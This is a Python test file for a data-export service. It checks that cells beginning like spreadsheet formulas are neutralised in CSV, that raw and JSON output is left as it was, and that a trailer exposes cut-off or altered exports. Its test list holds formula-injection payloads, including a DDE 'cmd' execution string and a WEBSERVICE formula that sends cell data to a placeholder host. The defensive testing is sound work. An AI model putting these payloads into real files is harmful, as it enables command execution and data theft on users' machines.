"""Exports: cells that no spreadsheet runs, raw ones that come back as they were, an end that tells of any change."""

import csv
import io

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.exports.stamp import END, Cells, Stamp
from service.exports.writing import FORMULA, defuse, write_csv, write_json, write_ndjson
from tests.service.exports.ends import find_end

STAMP = Stamp("report", {"operator": "cq-green", "duty": ""}, 41, "cm9vdA==")
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "  -2+3", "＝1+1", "＋1",
    "－1", "＠A1", "\u3000=cmd|' /C calc'!A0", "\ufeff=1", "\u200b=1", "\0=1", "\u202e@x", '=HYPERLINK("http://x","y")',
    "=WEBSERVICE(\"https://x/?\"&A1)", "-@x", "+A1", "-A1", "=", "@", "--1", "-1e5", "+86 138", "\xa0=1", "\u2060+x",
]  # fmt: skip
"""S-24."""
TEXTS = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)
ROWS = st.lists(st.tuples(TEXTS, st.integers(-(10**9), 10**9)), max_size=30)


def written(form: str, rows: list[tuple[str, int]]) -> bytes:
    if form == "csv":
        return b"".join(write_csv(STAMP, ["one", "two"], rows, cells=Cells.SPREADSHEET))
    objects = [{"one": one, "two": two} for one, two in rows]
    return b"".join(write_ndjson(STAMP, objects) if form == "ndjson" else write_json(STAMP, {"title": "t"}, objects))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_begins_like_a_formula_is_written_as_text(text: str) -> None:
    assert defuse(text) == f"'{text}"
    [row] = list(csv.reader(io.StringIO(written("csv", [(text, 1)]).decode("utf-8-sig"), newline="")))[1:-1]
    assert row == [f"'{text}", "1"]
    raw = b"".join(write_csv(STAMP, ["one"], [(text,)], cells=Cells.RAW)).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(raw, newline="")))[1:] == [[text]]
    assert orjson.loads(written("ndjson", [(text, 1)]).splitlines()[0])["one"] == text


@pytest.mark.parametrize("text", ["-1", "-1.5", "7", "0", "abc", "a=1", "", "'=1", "重庆-1", "1-1"])
def test_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
    assert defuse(text) == text
    assert defuse(-5) == -5


def test_a_title_that_begins_like_a_formula_is_text_too() -> None:
    data = b"".join(write_csv(STAMP, ["=1+1", "b"], [], cells=Cells.SPREADSHEET))
    assert data.startswith(b"\xef\xbb\xbf'=1+1,b\r\n")


@given(TEXTS)
def test_no_text_becomes_a_cell_that_a_spreadsheet_runs(text: str) -> None:
    cell = defuse(text)
    assert isinstance(cell, str) and cell in (text, f"'{text}")
    runs = cell.lstrip().startswith(FORMULA)
    assert not runs or cell.removeprefix("-").replace(".", "", 1).isdecimal()


@given(ROWS, st.sampled_from(("csv", "ndjson", "json")))
def test_the_end_of_an_export_says_what_is_in_it(rows: list[tuple[str, int]], form: str) -> None:
    found = find_end(written(form, rows))
    assert found is not None
    assert (found["count"], found["size"], found["root"], found["filter"]) == (len(rows), 41, STAMP.root, STAMP.filter)
    assert found["cells"] == ("spreadsheet" if form == "csv" else "raw")


@given(ROWS.filter(bool), st.sampled_from(("csv", "ndjson", "json")), st.data())
def test_an_export_that_was_cut_off_or_changed_does_not_fit_its_end(
    rows: list[tuple[str, int]], form: str, data: st.DataObject
) -> None:
    whole = written(form, rows)
    end = whole.rfind(END.encode()) - 2
    assert find_end(whole[: data.draw(st.integers(0, end))]) is None
    at = data.draw(st.integers(0, end - 2))
    assert find_end(whole[:at] + whole[at + 1 :]) is None
    changed = bytes([whole[at] ^ 1])
    assert find_end(whole[:at] + changed + whole[at + 1 :]) is None


@given(st.binary(max_size=100))
def test_other_files_have_no_end(data: bytes) -> None:
    assert find_end(data) is None


def test_an_export_is_written_piece_by_piece() -> None:
    pieces = write_ndjson(STAMP, ({"n": n} for n in range(10_000)))
    assert max(len(piece) for piece in pieces) < 20_000
